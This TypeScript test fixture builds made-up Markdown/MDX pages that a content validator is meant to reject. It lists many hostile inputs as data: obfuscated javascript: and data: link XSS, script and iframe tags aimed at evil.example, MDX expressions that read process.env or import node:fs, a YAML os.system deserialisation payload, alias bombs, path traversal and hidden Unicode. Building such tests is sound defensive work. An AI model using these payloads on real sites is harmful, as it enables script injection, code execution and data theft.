// Pages that try to do harm: each a name, and what stands in the text or among the fields of an ordinary page.

/** Each page by its name, and the kinds of findings it must be refused for. */
export function makeAttacks(): ReadonlyMap<string, { bytes: Uint8Array; refusedFor: string }> {
  const toRows = (table: Attacks, toPage: (text: string) => Uint8Array) =>
    Object.entries(table).flatMap(([refusedFor, texts]) =>
      Object.entries(texts).map(([name, text]) => [name, { bytes: toPage(text), refusedFor }] as const),
    );
  return new Map([
    ...toRows(TEXTS, (text) => toBytes(toPage('', text))),
    ...toRows(FIELDS, (field) => toBytes(toPage(`${field}\n`, 'Words.'))),
    ...Object.entries(ENCODINGS).map(([name, bytes]) => [name, { bytes, refusedFor: 'file-not-utf-8' }] as const),
  ]);
}

/** By what they are refused for, and by name. */
type Attacks = Readonly<Record<string, Readonly<Record<string, string>>>>;

const toBytes = (text: string): Uint8Array => new TextEncoder().encode(text);

function toPage(field: string, text: string): string {
  return `---
title: A made-up attack
summary: A made-up page that tries to do harm and must be refused.
sources:
  - made-up-report
${field}publishedOn: 1999-05-01
original: made-up-report
---

## Words

${text}
`;
}

function nested(depths: number, line: (depth: number) => string): string {
  return Array.from({ length: depths }, (_, depth) => line(depth)).join('');
}

const TEXTS: Attacks = {
  'address-unsafe': {
    'backslash-host': '[link text](/\\\\evil.example/)',
    'blob-link': '[link text](blob:https://evil.example/x)',
    'data-link': '[link text](data:text/html,<script>alert(1)</script>)',
    'data-picture': '![words of a picture](data:image/svg+xml;base64,PHN2Zy8+)',
    'file-link': '[link text](file:///etc/passwd)',
    'javascript-capitals': '[link text](JaVaScRiPt:alert(1))',
    'javascript-decimal-entity': '[link text](&#106;avascript:alert(1))',
    'javascript-entity': '[link text](javascript&colon;alert(1))',
    'javascript-footnote': 'Words.[^1]\n\n[^1]: [link text](javascript:alert(1))',
    'javascript-link': '[link text](javascript:alert(1))',
    'javascript-newline-entity': '[link text](java&NewLine;script:alert(1))',
    'javascript-percent': '[link text](javascript%3Aalert(1))',
    'javascript-picture': '![words of a picture](javascript:alert(1))',
    'javascript-reference': '[words][x]\n\n[x]: javascript:alert(1)',
    'javascript-tab-entity': '[link text](java&Tab;script:alert(1))',
    'javascript-tab': '[link text](<java\tscript:alert(1)>)',
    'protocol-relative': '[link text](//evil.example/)',
    'user-in-host': '[link text](https://innovationwm.co.uk@evil.example/)',
    'vbscript-link': '[link text](vbscript:msgbox)',
  },
  'script-not-allowed': {
    base: '<base href="https://evil.example/"/>',
    embed: '<embed src="https://evil.example/"/>',
    form: '<form action="https://evil.example/"><input name="x"/></form>',
    iframe: '<iframe src="https://evil.example/"></iframe>',
    'link-stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css"/>',
    'meta-refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/"/>',
    object: '<object data="https://evil.example/"></object>',
    'script-capitals': '<SCRIPT>alert(1)</SCRIPT>',
    'script-in-link': '[<script>alert(1)</script>](/news/)',
    'script-in-note': '<Note>\n\n<script>alert(1)</script>\n\n</Note>',
    'script-in-table': '| a |\n| --- |\n| <script>alert(1)</script> |',
    'script-mixed-case': '<ScRiPt>alert(1)</ScRiPt>',
    'script-self-closed': '<script src="https://evil.example/x.js"/>',
    'script-unclosed': '<script>alert(1)',
    script: '<script>alert(1)</script>',
    'style-plain': '<style>body</style>',
    'svg-script': '<svg><script>alert(1)</script></svg>',
    template: '<template>x</template>',
  },
  'mdx-expression': {
    'children-expression': '<Note>\n\n{1}\n\n</Note>',
    'expression-after-entity': '&#123;1} {1}',
    'expression-comment': '{/* nothing */}',
    'expression-flow': '{process.exit(1)}',
    'expression-in-heading': '## Words {1}',
    'expression-in-link': '[words {1}](/news/)',
    'expression-in-list': '- {1}\n- two',
    'expression-in-table': '| a |\n| --- |\n| {1} |',
    'expression-inline': 'Words {globalThis.constructor} words.',
    'expression-template': '{`${process.env.HOME}`}',
    'expression-unclosed': 'Words { words',
    'import-dynamic': "{import('node:fs')}",
    'prop-expression': 'A <Fact id={process.env.HOME}/>.',
    'prop-spread': 'A <Fact {...process.env}/>.',
  },
  'nesting-too-deep': {
    'deep-brackets': '['.repeat(20_000),
    'deep-emphasis': '*a **b '.repeat(3_000),
    'deep-lists': nested(300, (depth) => `${'  '.repeat(depth)}- a\n`),
    'deep-notes': `${'<Note>\n\n'.repeat(200)}words\n\n${'</Note>\n\n'.repeat(200)}`,
    'deep-quotes': `${'>'.repeat(3_000)} words`,
    'many-unclosed-tags': '<Note>\n'.repeat(2_000),
    'quadratic-emphasis': '_*a'.repeat(20_000),
  },
  'component-prop-unknown': {
    'class-on-component': 'A <Org id="made-up-office" class="x"/>.',
    'client-directive': '<Note client:load="true">\nwords\n</Note>',
    'inner-html': '<Note dangerouslySetInnerHTML="x">\nwords\n</Note>',
    'proto-prop': 'A <Org id="made-up-office" __proto__="x"/>.',
    'set-html': '<Note set:html="<b>x</b>">\nwords\n</Note>',
  },
  'html-not-allowed': {
    'anchor-html': '<a href="javascript:alert(1)">words</a>',
    'autolink-javascript': '<javascript:alert(1)>',
    'constructor-tag': '<constructor/>',
    'custom-element': '<evil-element>x</evil-element>',
    'namespace-tag': '<xlink:href>x</xlink:href>',
  },
  'component-unknown': {
    'full-width-tag': '<\uff33cript>alert(1)</\uff33cript>',
    'look-alike-component': 'A <F\u0430ct id="made-up-share"/>.',
    'member-tag': '<Fact.constructor/>',
    'prototype-tag': '<__proto__/>',
  },
  'component-prop-invalid': {
    'id-markup': 'A <Org id="&lt;b&gt;"/>.',
    'id-traversal': 'A <Org id="../../package"/>.',
    'prop-element': 'A <Fact id=<b/>/>.',
  },
  'html-comment': {
    cdata: '<![CDATA[ <script>alert(1)</script> ]]>',
    doctype: '<!DOCTYPE html>',
    'html-comment': '<!-- <script>alert(1)</script> -->',
  },
  'mdx-export': {
    'export-constant': 'export const secret = process.env',
    'export-default': 'export default () => null',
    'export-star': "export * from './somewhere.js'",
  },
  'address-unsafe, character-hidden': {
    'javascript-leading-control': '[link text](<\u0001javascript:alert(1)>)',
    'javascript-soft-hyphen': '[link text](java\u00adscript:alert(1))',
  },
  'character-hidden': {
    'tag-characters': 'Words \u{e0041}\u{e0042} words.',
    'zero-width-words': 'Words\u200b words.',
  },
  'character-hidden, pair-broken': {
    'bidi-override': 'Words \u202e)1(trela:tpircsavaj words.',
    'terminal-escape': 'Words \u001b[2J words.',
  },
  'event-attribute': {
    'event-capitals': 'A <Org id="made-up-office" ONCLICK="alert(1)"/>.',
    'event-on-component': 'A <Org id="made-up-office" onclick="alert(1)"/>.',
  },
  'mdx-import': {
    'import-module': "import fs from 'node:fs'",
    'import-side-effect': "import 'node:child_process'",
  },
  'picture-remote': {
    'remote-picture-reference': '![A tracking dot][x]\n\n[x]: https://evil.example/dot.png',
    'remote-picture': '![A tracking dot](https://evil.example/dot.png)',
  },
  'component-unknown, event-attribute': {
    'details-event': '<details open ontoggle="alert(1)">x</details>',
  },
  'component-unknown, html-not-allowed': {
    fragment: '<><b>x</b></>',
  },
  'event-attribute, html-not-allowed': {
    'image-event': '<img src="x" onerror="alert(1)"/>',
  },
  'event-attribute, script-not-allowed': {
    'svg-event': '<svg onload="alert(1)"/>',
  },
  'fact-missing': {
    'fact-prototype': 'A <Fact id="constructor"/>.',
  },
  'file-binary': {
    'null-byte': 'Words \u0000 words.',
  },
  'html-not-allowed, character-hidden': {
    'zero-width': '<scr\u200bipt>',
  },
  'mdx-syntax': {
    'processing-instruction': '<?xml version="1.0"?>',
  },
  'merge-conflict-marker': {
    'merge-marker': '<<<<<<< HEAD\nwords\n=======\nother words\n>>>>>>> theirs',
  },
  'picture-missing': {
    'picture-traversal': '![A stolen file](/pictures/../../package.json)',
  },
  'reference-missing': {
    'org-prototype': 'A <Org id="constructor"/>.',
  },
  'script-not-allowed, html-not-allowed': {
    math: '<math><mtext>x</mtext></math>',
  },
  'script-not-allowed, mdx-expression': {
    style: '<style>body {display: none}</style>',
  },
  'style-attribute': {
    'style-on-component': 'A <Org id="made-up-office" style="background: url(https://evil.example/)"/>.',
  },
};

const FIELDS: Attacks = {
  'yaml-feature-refused': {
    'yaml-alias-bomb':
      'a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\ne: [*d, *d, *d, *d, *d, *d, *d, *d, *d]',
    'yaml-binary': 'dateNote: !!binary aGVsbG8=',
    'yaml-function': 'dateNote: !!js/function "function () { return 1 }"',
    'yaml-local-tag': 'dateNote: !secret /etc/passwd',
    'yaml-merge-key': '<<: {title: Another}',
    'yaml-python': 'dateNote: !!python/object/apply:os.system ["id"]',
    'yaml-self-alias': 'a: &a [*a]',
  },
  'character-hidden': {
    'yaml-null-character': 'dateNote: "a \\0 null"',
    'yaml-script-in-title': 'dateNote: "\\u202Ereversed"',
    'yaml-surrogate': 'dateNote: "half \\uD800 a character"',
  },
  'nesting-too-deep': {
    'yaml-deep-dashes': `dateNote:\n  ${'- '.repeat(2_000)}x`,
    'yaml-deep-flow': `dateNote: ${'['.repeat(3_000)}`,
    'yaml-deep-indent': `dateNote:\n${nested(400, (depth) => `${' '.repeat(depth + 1)}a:\n`)}`.trimEnd(),
  },
  'field-unknown': {
    'yaml-constructor': 'constructor: {prototype: x}',
    'yaml-proto': '__proto__: {draft: true}',
  },
  'id-invalid': {
    'yaml-template': 'replacedBy: ${process.env.HOME}',
    'yaml-traversal': 'replacedBy: news/../../package',
  },
  'front-matter-repeated': {
    'yaml-second-document': '...\n---\ntitle: Another',
  },
  'yaml-syntax': {
    'yaml-directive': '%YAML 1.1',
  },
};

/** Files that are not UTF-8: what stands in the text is written as single bytes, or the whole as UTF-16. */
const ENCODINGS = {
  'encoded-surrogate': Buffer.from(toPage('', 'Words \xed\xa0\x80 words.'), 'latin1'),
  'latin-1': Buffer.from(toPage('', 'Caf\xe9 words.'), 'latin1'),
  overlong: Buffer.from(toPage('', 'Words \xc0\xbcscript\xc0\xbe words.'), 'latin1'),
  'utf-16': Buffer.from(`\ufeff${toPage('', 'words').trimEnd()}`, 'utf16le'),
};
